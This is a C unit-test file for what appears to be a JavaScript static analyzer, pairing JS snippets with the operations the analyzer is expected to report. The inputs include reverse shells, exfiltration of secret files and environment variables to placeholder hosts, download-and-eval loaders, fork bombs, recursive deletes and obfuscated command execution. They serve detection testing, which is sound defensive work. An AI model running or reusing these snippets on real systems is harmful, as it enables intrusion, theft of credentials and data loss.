/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "fixture.h"

/* What each text does, as operations_put() writes it. */
static const struct fixture_case cases[] = {
	{ "this is the connection in who is told of it",
	  "require('net').connect(9, 'h.test', function () {\n"
	  "  const s = require('child_process').spawn('sh'); this.pipe(s.stdin); });",
	  "0 network 'h.test:9'\n1 command 'sh' +interactive @function <0\n" },
	{ "postProcess() makes no process",
	  "function f(n) { if (n) f(n - 1); b.postProcess(n); }",
	  "0 function 'f' +recurses\n1 call 'b.postProcess' ~'?' @function\n" },
	{ "exec",
	  "require('child_process').exec('ls /')",
	  "0 command 'ls' '/' @nested\n" },
	{ "destructuring",
	  "const {execSync: e, spawn} = require('node:child_process');\n"
	  "e('id'); spawn('rm', ['-r', '/a']);",
	  "0 command 'id' @nested\n1 command 'rm' '-r' '/a'\n2 remove '/a' +recursive\n" },
	{ "imports",
	  "import fs, {rmSync as gone} from 'fs';\nimport * as cp from 'child_process';\n"
	  "gone('/a', {recursive: true, force: true}); fs.unlinkSync('/b'); cp.execSync('id');",
	  "0 remove '/a' +recursive +force\n1 remove '/b'\n2 command 'id' @nested\n" },
	{ "import()",
	  "const cp = await import('child_process'); cp.execSync('id');",
	  "0 command 'id' @nested\n" },
	{ "joined property",
	  "const cp = require('child_' + 'process'); cp['ex' + 'ec']('id');",
	  "0 evaluate 'child_process'\n"
	  "1 evaluate 'exec'\n"
	  "2 command 'id' @nested\n" },
	{ "unknown property",
	  "const cp = require('child_process'); cp[name]('id');",
	  "0 evaluate 'child_process.' 'id'\n" },
	{ "globalThis",
	  "globalThis['eval'](\"require('fs').unlinkSync('/a')\");",
	  "0 remove '/a' @nested\n" },
	{ "process.mainModule",
	  "process.mainModule.require('child_process').execSync('id');",
	  "0 command 'id' @nested\n" },
	{ "function that is called again at once",
	  "const f = () => Promise.resolve().then(f);",
	  "0 loop @endless\n1 function 'f' +recurses\n" },
	{ "function that may be called again",
	  "function f() { if (g()) setImmediate(f); }",
	  "" },
	{ "condition that stays",
	  "let run = true; while (run) { g(); }",
	  "0 loop @loop @endless\n" },
	{ "condition that is changed",
	  "let run = true; while (run) { run = g(); }",
	  "" },
	{ "constructor",
	  "[].constructor.constructor('return process')().mainModule.require('child_process').execS"
	  "ync('id');",
	  "0 evaluate 'return process'\n1 command 'id' @nested\n" },
	{ "new Function",
	  "new Function('a', \"require('fs').rmSync('/a')\")();",
	  "0 evaluate 'require('fs').rmSync('/a')'\n1 remove '/a' @nested\n" },
	{ "setTimeout of text",
	  "setTimeout(\"require('fs').rmSync('/a')\", 5);",
	  "0 call '(timer)' 'require('fs').rmSync('/a')'\n1 remove '/a' @nested\n" },
	{ "vm",
	  "require('vm').runInNewContext(\"require('fs').rmSync('/a')\");",
	  "0 remove '/a' @nested\n" },
	{ "spawn with a shell",
	  "require('child_process').spawn('rm -r', ['/a'], {shell: true});",
	  "0 command 'rm' '-r' '/a' @nested\n1 remove '/a' +recursive @nested\n" },
	{ "call and apply",
	  "const {spawn} = require('child_process'); spawn.call(null, 'a'); spawn.apply(null, ['b', "
	  "['c']]);",
	  "0 command 'a'\n1 command 'b' 'c'\n" },
	{ "promisify",
	  "const run = require('util').promisify(require('child_process').exec); run('id');",
	  "0 command 'id' @nested\n" },
	{ "template",
	  "const d = '/a'; require('child_process').execSync(`rm -r ${d}/x ${e}`);",
	  "0 evaluate ~'rm -r /a/x ?'\n1 command 'rm' '-r' '/a/x' '_' @nested\n"
	  "2 remove '/a/x' +recursive @nested\n3 remove '_' +recursive @nested\n" },
	{ "fromCharCode",
	  "require('child_process').execSync(String.fromCharCode(105, 100));",
	  "0 evaluate 'id'\n"
	  "1 command 'id' @decoded @nested\n" },
	{ "loop over codes",
	  "let s = ''; for (let i = 0; i < 2; i++) s += String.fromCharCode([105, 100][i]); "
	  "require('child_process').execSync(s);",
	  "0 evaluate 'id'\n"
	  "1 command 'id' @decoded @nested\n" },
	{ "mapped codes",
	  "require('child_process').execSync([104, 101].map(c => String.fromCharCode(c ^ "
	  "1)).join(''));",
	  "0 evaluate 'id'\n"
	  "1 command 'id' @decoded @nested\n" },
	{ "reversed",
	  "require('child_process').execSync('a/ mr'.split('').reverse().join(''));",
	  "0 evaluate 'rm /a'\n"
	  "1 command 'rm' '/a' @decoded @nested\n"
	  "2 remove '/a' @decoded @nested\n" },
	{ "Buffer",
	  "require('child_process').execSync(Buffer.from('aWQ=', 'base64').toString());",
	  "0 evaluate 'id'\n"
	  "1 command 'id' @decoded @nested\n" },
	{ "atob",
	  "eval(atob('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9hJyk='));",
	  "0 evaluate 'require('fs').rmSync('/a')'\n"
	  "1 remove '/a' @decoded @nested\n" },
	{ "hex",
	  "require('child_process').execSync(Buffer.from('6964', 'hex') + '');",
	  "0 evaluate 'id'\n"
	  "1 command 'id' @decoded @nested\n" },
	{ "percent",
	  "require('child_process').execSync(decodeURIComponent('%69%64'));",
	  "0 evaluate 'id'\n"
	  "1 command 'id' @decoded @nested\n" },
	{ "replace",
	  "require('child_process').execSync('rXm'.replace('X', ''));",
	  "0 command 'rm' @nested\n" },
	{ "files",
	  "const fs = require('fs'); fs.readFileSync('/a'); fs.writeFileSync('/b', 'x'); "
	  "fs.appendFileSync('/c', 'y'); fs.chmodSync('/d', 0o777); fs.renameSync('/e', '/f');",
	  "0 read '/a'\n"
	  "1 write '/b' +truncates\n"
	  "2 write '/c' +appends\n"
	  "3 permission '/d' '777'\n"
	  "4 read '/e' +recursive\n"
	  "5 write '/f' +truncates <4\n"
	  "6 remove '/e'\n" },
	{ "promises",
	  "const fs = require('fs').promises; fs.rm('/a', {recursive: true}); "
	  "require('fs/promises').unlink('/b');",
	  "0 remove '/a' +recursive\n1 remove '/b'\n" },
	{ "home",
	  "const os = require('os'), path = require('path'); "
	  "require('fs').readFileSync(path.join(os.homedir(), '.ssh', 'id'));",
	  "0 read '~/.ssh/id'\n" },
	{ "environment in a path",
	  "require('fs').appendFileSync(`${process.env.HOME}/.bashrc`, 'x');",
	  "0 write '~/.bashrc' +appends\n" },
	{ "a secret that is sent",
	  "const k = require('fs').readFileSync('/s', 'utf8'); fetch('http://h/', {method: 'POST', "
	  "body: k});",
	  "0 read '/s'\n"
	  "1 network 'http://h/' 'POST' +sends +fetches <0\n" },
	{ "in a callback",
	  "const fs = require('fs'), https = require('https'); fs.readFile('/s', (err, data) => { "
	  "const r = https.request({hostname: 'h', path: '/p', method: 'POST'}); r.write(data); "
	  "r.end(); });",
	  "0 read '/s'\n"
	  "1 network 'h/p' 'POST' +sends +fetches @function <0\n" },
	{ "environment that is sent",
	  "require('axios').post('http://h', {env: process.env});",
	  "0 read '$*'\n1 network 'http://h' +sends <0\n" },
	{ "one variable",
	  "const {TOKEN} = process.env; fetch('http://h/?' + TOKEN);",
	  "0 read '$TOKEN'\n1 network ~'http://h/?\?' +fetches <0\n" },
	{ "download that is run",
	  "require('https').get('http://h', res => { let b = ''; res.on('data', c => b += c); "
	  "res.on('end', () => eval(b)); });",
	  "0 network 'http://h' +fetches\n1 evaluate ~'?' +starts @function <0\n" },
	{ "await",
	  "(async () => { const r = await fetch('http://h'); eval(await r.text()); })();",
	  "0 network 'http://h' +fetches @function\n1 evaluate ~'?' +starts @function <0\n" },
	{ "then",
	  "fetch('http://h').then(r => r.text()).then(eval);",
	  "0 network 'http://h' +fetches\n1 evaluate ~'?' +starts <0\n" },
	{ "pipe to a file",
	  "const f = require('fs').createWriteStream('/a'); require('https').get('http://h', r => "
	  "r.pipe(f));",
	  "0 write '/a' <1\n1 network 'http://h' +fetches\n" },
	{ "reverse shell",
	  "const sh = require('child_process').spawn('/bin/sh', []); const c = new "
	  "(require('net').Socket)(); c.connect(80, '1.2.3.4', () => { c.pipe(sh.stdin); "
	  "sh.stdout.pipe(c); });",
	  "0 command '/bin/sh' +interactive <2 <1\n"
	  "1 call 'net.Socket'\n"
	  "2 network '1.2.3.4:80' +sends <0\n" },
	{ "net.connect",
	  "const c = require('net').connect({host: 'h', port: 1}); "
	  "c.write(require('fs').readFileSync('/s'));",
	  "0 network 'h:1' +sends <1\n1 read '/s'\n" },
	{ "WebSocket",
	  "const w = new WebSocket('ws://h'); w.send(process.env.TOKEN);",
	  "0 network 'ws://h' +sends <1\n1 read '$TOKEN'\n" },
	{ "fork bomb",
	  "while (true) { require('child_process').fork(__filename); }",
	  "0 loop @loop @endless\n1 process 'fork' +multiplies @loop @endless\n"
	  "2 command 'node' ~'?' @loop @endless <3\n3 read ~'?' +starts @loop @endless\n" },
	{ "endless for",
	  "for (;;) { work(); }",
	  "0 loop @loop @endless\n" },
	{ "methods",
	  "class A { constructor() { this.c = 'id'; } run() { "
	  "require('child_process').execSync(this.c); } } new A().run();",
	  "0 command 'id' @function @nested\n" },
	{ "function before its declaration",
	  "f('id'); function f(c) { require('child_process').execSync(c); }",
	  "0 command 'id' @function @nested\n" },
	{ "defaults and rest",
	  "function f(a = 'id', ...r) { require('child_process').execSync(a + ' ' + r[0]); } "
	  "f(undefined, 'x');",
	  "0 command 'id' 'x' @function @nested\n1 evaluate ~'? x' @function\n"
	  "2 command '_' 'x' @function @nested\n" },
	{ "object of functions",
	  "const o = { run(c) { require('child_process').execSync(c); } }; o.run('id');",
	  "0 command 'id' @function @nested\n" },
	{ "else-if",
	  "let c = 'a'; if (x) c = 'b'; else if (y) c = 'c'; require('child_process').execSync(c);",
	  "0 command 'c' @nested\n1 command 'b' @nested\n2 command 'a' @nested\n" },
	{ "switch",
	  "switch (x) { case 1: require('fs').rmSync('/a'); break; default: "
	  "require('fs').rmSync('/b'); }",
	  "0 remove '/a' @condition\n1 remove '/b' @condition\n" },
	{ "for of",
	  "for (const p of ['/a', '/b']) require('fs').rmSync(p);",
	  "0 remove '/a' @loop\n1 remove '/b' @loop\n" },
	{ "forEach",
	  "['/a', '/b'].forEach(p => require('fs').rmSync(p));",
	  "0 remove '/a' @function\n1 remove '/b' @function\n" },
	{ "spread",
	  "const a = ['-r', '/a']; require('child_process').spawn('rm', [...a, 'x']);",
	  "0 command 'rm' '-r' '/a' 'x'\n1 remove '/a' +recursive\n2 remove 'x' +recursive\n" },
	{ "require of what is given",
	  "require(process.argv[2]);",
	  "0 evaluate ~'?'\n" },
	{ "LD_PRELOAD",
	  "process.env.LD_PRELOAD = '/x';",
	  "0 environment 'LD_PRELOAD' '/x'\n" },
	{ "kill and exit",
	  "process.kill(1, 'SIGKILL'); process.setuid(0);",
	  "0 process 'kill' '1' 'SIGKILL'\n1 process 'setuid' '0'\n" },
	{ "memory",
	  "Buffer.alloc(1e12);",
	  "0 allocate '1000000000000'\n" },
	{ "syntax error",
	  "require('fs').rmSync('/a'); if (((",
	  "0 remove '/a'\ndoubt syntax\n" },
	{ "other call",
	  "const x = require('thing'); x.start('a', b);",
	  "0 call 'thing.start' 'a' ~'?'\n" },
	{ "comma call",
	  "(0, eval)(\"require('fs').rmSync('/a')\");",
	  "0 remove '/a' @nested\n" },
	{ "var in blocks",
	  "{ var c = 'id'; } require('child_process').execSync(c);",
	  "0 command 'id' @nested\n" },
	{ "template of a shell",
	  "import { $ } from 'bun'; await $`rm -r ${process.env.HOME}`;",
	  "0 command 'rm' '-r' '~' @nested\n1 remove '~' +recursive @nested\n" },
	{ "code in an address",
	  "await import('data:text/javascript,' + encodeURIComponent(x)); await "
	  "import('data:text/javascript;base64,cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9hJyk=');",
	  "0 evaluate 'require('fs').rmSync('/a')'\n"
	  "1 remove '/a' @decoded @nested\n" },
	{ "list of paths",
	  "import {deleteSync} from 'del'; deleteSync(['/a', '/b']);",
	  "0 remove '/a' +recursive\n1 remove '/b' +recursive\n" },
	{ "decoder with an index",
	  "const t = ['ZXhlY1N5bmM=', 'aWQ=']; const d = i => Buffer.from(t[i - 0], "
	  "'base64').toString(); require('child_process')[d('0x0')](d('0x1'));",
	  "0 evaluate 'execSync'\n"
	  "1 evaluate 'id'\n"
	  "2 command 'id' @decoded @nested\n" },
	{ "promise",
	  "const https = require('https'); const load = u => new Promise((ok, no) => { https.get(u, "
	  "r => { let t = ''; r.on('data', d => { t += d; }); r.on('end', () => ok(t)); }); }); "
	  "load('http://h').then(eval);",
	  "0 network 'http://h' +fetches @function\n1 evaluate ~'?' +starts <0\n"
	  "2 evaluate ~'?' +starts <0\n" },
	{ "callback before the variable is there",
	  "const s = require('net').connect(1, 'h', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); }); "
	  "const sh = require('child_process').spawn('/bin/sh', []);",
	  "0 network 'h:1' +sends <1\n1 command '/bin/sh' +interactive <0\n" },
	{ "listener",
	  "require('http').createServer((q, s) => s.end('x')).listen(8080);",
	  "0 call 'http.createServer' ~'?'\n1 network ':8080' +listens\n" },
	{ "console.log goes on",
	  "console.log(require('fs').readFileSync('/s', 'utf8'));",
	  "0 read '/s'\n" },
};

static void operations_are_the_expected_ones(void **state)
{
	fixture_run(LANGUAGE_JAVASCRIPT, cases, sizeof cases / sizeof *cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(operations_are_the_expected_ones),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
